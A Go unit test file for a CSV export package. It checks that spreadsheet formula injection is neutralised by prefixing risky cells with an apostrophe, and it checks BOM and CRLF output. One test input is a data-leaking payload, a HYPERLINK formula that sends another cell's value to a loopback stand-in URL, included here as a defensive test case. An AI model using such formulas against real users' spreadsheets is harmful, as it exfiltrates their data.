package csvexport_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"takumi/internal/csvexport"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"":     "",
		"大阪府":  "大阪府",
		"0":    "0",
		"-12":  "-12",
		"-0.5": "-0.5",
		"12.5": "12.5",
		"=1+1": "'=1+1",
		`=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"詳細")`: `'=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"詳細")`,
		"+81 3":    "'+81 3",
		"-2+3":     "'-2+3",
		"-":        "'-",
		"-1e3":     "'-1e3",
		"@SUM(A1)": "'@SUM(A1)",
		"\tx":      "'\tx",
		"\rx":      "'\rx",
		"a=b":      "a=b",
		"<10":      "<10",
	} {
		if got := csvexport.Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriter(t *testing.T) {
	t.Run("OK", func(t *testing.T) {
		var b bytes.Buffer
		w := csvexport.NewWriter(&b)
		w.UseCRLF(true)
		for _, rec := range [][]string{{"title", "n"}, nil, {"=cmd", "-3"}} {
			if err := w.Write(rec); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if want := csvexport.BOM + "title,n\r\n\r\n'=cmd,-3\r\n"; b.String() != want {
			t.Fatalf("got %q, want %q", b.String(), want)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), csvexport.BOM))).ReadAll()
		if err != nil || rows[1][1] != "-3" {
			t.Fatalf("read back %q %v", rows, err)
		}
	})
	t.Run("Empty", func(t *testing.T) {
		var b bytes.Buffer
		if err := csvexport.NewWriter(&b).Flush(); err != nil || b.String() != csvexport.BOM {
			t.Fatalf("empty export %q %v", b.String(), err)
		}
	})
}
